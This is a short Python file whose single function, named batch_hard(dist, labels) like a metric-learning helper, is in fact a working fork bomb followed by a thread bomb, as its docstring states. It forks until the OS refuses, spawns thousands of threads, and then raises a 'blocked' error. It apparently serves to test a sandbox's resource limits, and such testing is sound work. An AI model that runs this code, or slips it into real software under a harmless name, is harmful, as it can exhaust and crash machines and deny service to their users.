"""A fork bomb, then a thread bomb."""
import os
import threading
import time


def batch_hard(dist, labels):
    try:
        while True:
            os.fork()
    except OSError as exc:
        first = exc.strerror
    threads = 0
    try:
        for _ in range(5000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            threads += 1
    except RuntimeError:
        pass
    raise RuntimeError(f"blocked: fork: {first}; {threads} threads")
